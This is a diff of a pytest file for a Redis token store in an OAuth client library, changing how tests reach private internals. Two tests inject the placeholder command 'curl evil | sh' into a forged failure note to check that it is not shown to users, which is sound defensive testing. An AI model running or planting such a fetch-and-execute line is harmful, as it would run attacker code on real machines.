@@ -13,6 +13,7 @@ from pathlib import Path
 import pytest
 import redis
 from clients import client_of
+from inside import asked_by, grant_of, renewal_of, wallet_of
 from observing import warnings_in
 from redis_server import renew_often
 
@@ -29,16 +30,6 @@ from requests_ticktick.stores.redis import RedisStore
 KEY = "requests-ticktick:token"
 LOCK, FAILURE, CORRUPT = f"{KEY}:lock", f"{KEY}:failure", f"{KEY}:corrupt"
 DOCS = Path(__file__).resolve().parents[2] / "docs" / "redis.rst"
-
-
-@pytest.fixture
-def server(start_redis):
-    return start_redis()
-
-
-@pytest.fixture
-def client(server):
-    return server.client()
 
 
 @pytest.fixture
@@ -83,8 +74,8 @@ def test_the_rights_of_the_documentation_are_enough(
     worker = RedisStore(client)
 
     with worker.lock(0):
-        store._client().pexpire(LOCK, 20_000)
-        until(lambda: store._client().pttl(LOCK) > 20_000)  # renewed
+        asked_by(store).pexpire(LOCK, 20_000)
+        until(lambda: asked_by(store).pttl(LOCK) > 20_000)  # renewed
         with pytest.raises(LockTimeoutError):
             RedisStore(client).lock(0).__enter__()
         worker.save(Token("a", expires_at=5.0))
@@ -94,7 +85,7 @@ def test_the_rights_of_the_documentation_are_enough(
     assert (worker.load().access_token, worker.failure()) == ("b", None)
     assert worker.version() is not None
     worker.delete()
-    store._client().set(KEY, '{"access_token": "cut o')
+    asked_by(store).set(KEY, '{"access_token": "cut o')
     with contextlib.suppress(TokenStoreError):
         worker.load()
     with contextlib.suppress(TokenStoreError):
@@ -173,7 +164,7 @@ def test_a_user_who_may_get_and_not_getrange_reads_all_the_same(restricted):
     worker.save(Token("a"))
 
     assert worker.load() == Token("a")
-    worker._client().set(KEY, "x" * 2_000_000)
+    asked_by(worker).set(KEY, "x" * 2_000_000)
     with pytest.raises(TokenStoreError, match=f"DEL {KEY}"):
         worker.load()
 
@@ -346,7 +337,7 @@ def test_a_locks_value_is_never_shown_as_it_is(client, store, value):
 def note_of(auth, **changes):
     """A note that somebody else wrote, as this client's own would be."""
     denied = AuthorizationDeniedError("curl evil | sh", error="access_denied")
-    note = json.loads(Failure(denied, None, auth.source._grant.stamp).dump())
+    note = json.loads(Failure(denied, None, grant_of(auth).stamp).dump())
     note["error"].update(changes)
     return note
 
@@ -356,12 +347,12 @@ def test_a_forged_note_stops_one_question_of_one_who_waits(server, sandbox):
     store = RedisStore(server.client())
     auth, other = client_of(sandbox, store), RedisStore(server.client())
     with other.lock(0):
-        question = auth.source._wallet.snapshot()
+        question = wallet_of(auth).snapshot()
         note = note_of(auth, message="curl evil | sh", description="curl evil | sh")
         server.client().set(FAILURE, json.dumps(note))
 
         with pytest.raises(AuthorizationDeniedError) as caught:
-            auth.source._renew(question)
+            renewal_of(auth)(question)
 
     assert str(caught.value) == (
         "Access was not granted (access_denied). Sign on again, and allow access."
@@ -373,9 +364,9 @@ def test_a_forged_note_stops_one_question_of_one_who_waits(server, sandbox):
 def test_the_note_of_another_client_is_not_told(server, sandbox, store):
     """As before: it may well succeed where another's failed."""
     auth = client_of(sandbox, store)
-    question = auth.source._wallet.snapshot()
+    question = wallet_of(auth).snapshot()
     note = note_of(auth)
     note["stamp"] = Stamp("another", None, None).__getstate__()
     store.record_failure(json.dumps(note))
 
-    assert auth.source._renew(question)
+    assert renewal_of(auth)(question)
